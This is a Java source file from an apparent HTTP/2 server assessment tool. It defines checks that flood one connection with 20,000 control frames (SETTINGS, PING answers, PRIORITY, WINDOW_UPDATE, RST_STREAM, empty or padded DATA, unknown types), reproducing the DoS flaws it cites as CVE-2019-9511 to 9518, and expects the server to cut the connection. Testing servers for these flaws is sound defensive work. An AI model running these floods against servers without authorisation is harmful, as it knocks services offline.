package dev.countersign.assessment;

import java.io.IOException;
import java.security.GeneralSecurityException;
import java.util.List;

/** Frames that cost the sender nothing and the receiver a little, in numbers. */
final class ControlFrames extends Abuse {
  private static final int BATCHES = 100;
  private static final int PER_BATCH = 200;

  private final Kind kind;

  private enum Kind {
    SETTINGS(Frame.SETTINGS, 0, 0),
    PING_ANSWER(Frame.PING, Frame.ACK, 8),
    PRIORITY(Frame.PRIORITY, 0, 5),
    WINDOW_UPDATE(Frame.WINDOW_UPDATE, 0, 4),
    RESET(Frame.RST_STREAM, 0, 4),
    UNKNOWN(0x42, 0, 8),
    EMPTY_DATA(Frame.DATA, 0, 0),
    PADDING(Frame.DATA, Frame.PADDED, 1);

    private final int type;
    private final int flags;
    private final int bytes;

    Kind(int type, int flags, int bytes) {
      this.type = type;
      this.flags = flags;
      this.bytes = bytes;
    }

    /** An increment of 1, a dependency on stream 0 with a weight, an error code, or nothing. */
    private byte[] payload() {
      byte[] payload = new byte[bytes];
      if (bytes > 1) {
        payload[bytes - 1] = 1;
      }
      return payload;
    }
  }

  private ControlFrames(String name, Kind kind, String what, String source) {
    super(About.of(name, Group.PROTOCOL, Severity.MEDIUM)
        .tries(BATCHES * PER_BATCH + " " + what + " on one connection.")
        .safe("The connection is ended long before all were sent.")
        .source(source)
        .remedy("Bound the frames of a connection that move no call forward."));
    this.kind = kind;
  }

  static List<Check> all() {
    return List.of(
        new ControlFrames(
            "settings-flood", Kind.SETTINGS, "empty SETTINGS frames", "CVE-2019-9515"),
        new ControlFrames("priority-flood", Kind.PRIORITY, "PRIORITY frames", "CVE-2019-9513"),
        new ControlFrames(
            "window-update-flood", Kind.WINDOW_UPDATE, "WINDOW_UPDATE frames", "CVE-2019-9511"),
        new ControlFrames(
            "empty-data-flood", Kind.EMPTY_DATA, "empty DATA frames of one call", "CVE-2019-9518"),
        new ControlFrames(
            "padding-flood",
            Kind.PADDING,
            "DATA frames of one call that hold padding only",
            "CVE-2019-9518"),
        new ControlFrames(
            "ping-answer-flood",
            Kind.PING_ANSWER,
            "answers to pings that nobody sent",
            "CVE-2019-9512"),
        new ControlFrames(
            "reset-flood", Kind.RESET, "RST_STREAM frames for one stream", "CVE-2019-9514"),
        new ControlFrames(
            "unknown-frame-flood",
            Kind.UNKNOWN,
            "frames of a type that nobody knows",
            "RFC 9113 section 10.5"));
  }

  @Override
  boolean isToBeBrokenOff() {
    return true;
  }

  @Override
  Outcome misbehave(Attack attack)
      throws IOException, GeneralSecurityException, InterruptedException, CannotRunException {
    try (RawHttp2 connection = attack.connect()) {
      int call = connection.newStream();
      connection.request(call, attack.path());
      int stream = switch (kind) {
        case SETTINGS, PING_ANSWER, WINDOW_UPDATE, UNKNOWN -> 0;
        case EMPTY_DATA, PADDING, RESET -> call;
        case PRIORITY -> call + 2;
      };
      connection.socket().setSoTimeout(2_000);
      return Flood.of(connection, BATCHES, (to, number) -> {
            for (int i = 0; i < PER_BATCH; i++) {
              to.frame(kind.type, kind.flags, stream, kind.payload());
            }
          })
          .mustBeCut(BATCHES * PER_BATCH + " frames");
    }
  }
}
